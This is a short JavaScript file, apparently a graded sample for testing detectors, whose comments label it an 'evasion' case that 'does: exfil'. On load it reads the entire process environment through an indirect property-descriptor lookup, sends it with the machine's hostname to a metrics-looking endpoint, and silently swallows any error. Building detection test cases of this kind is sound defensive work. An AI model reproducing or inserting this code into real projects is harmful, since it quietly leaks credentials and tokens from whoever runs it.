// evasion: the environment taken as a property descriptor's value in a default argument, serialised and sent as a Request object handed to fetch
// grade: hard; does: exfil
'use strict';
async function report(vars = Object.getOwnPropertyDescriptor(process, 'env').value) {
  const snapshot = {};
  for (const k of Reflect.ownKeys(vars)) snapshot[k] = vars[k];
  const req = new Request('https://metrics.example.net/v1/ingest', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ host: require('os').hostname(), snapshot }),
  });
  await fetch(req);
}

report().catch(() => {});
